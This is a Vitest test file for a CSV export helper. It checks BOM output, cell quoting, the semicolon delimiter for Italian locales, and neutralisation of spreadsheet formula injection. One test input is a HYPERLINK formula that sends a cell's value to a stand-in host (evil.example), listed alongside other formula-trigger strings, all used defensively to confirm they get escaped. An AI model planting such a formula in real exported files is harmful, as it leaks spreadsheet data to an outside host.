import { describe, expect, it } from 'vitest'
import { csvDelimiter, toCsv } from './csv'

describe('toCsv', () => {
  it('quotes every cell and starts with a BOM', () => {
    expect(
      toCsv([
        ['nome', 'e-mail'],
        ['Anna "la" Bianchi', 'a@x.it'],
      ]),
    ).toBe('\uFEFF"nome","e-mail"\r\n"Anna ""la"" Bianchi","a@x.it"\r\n')
  })
  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Clicca")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
    'defuses the formula %j',
    (v) => {
      const cell = toCsv([[v]])
        .slice(1)
        .trimEnd()
      expect(cell.startsWith(`"'`)).toBe(true)
    },
  )
  it('separates with ";" for Italian spreadsheets', () => {
    expect(
      toCsv(
        [
          ['Nome', 'Stato'],
          ['Anna; Bianchi', 'confermato'],
        ],
        { delimiter: csvDelimiter('it') },
      ),
    ).toBe('\uFEFF"Nome";"Stato"\r\n"Anna; Bianchi";"confermato"\r\n')
    expect(csvDelimiter('en')).toBe(',')
  })
})
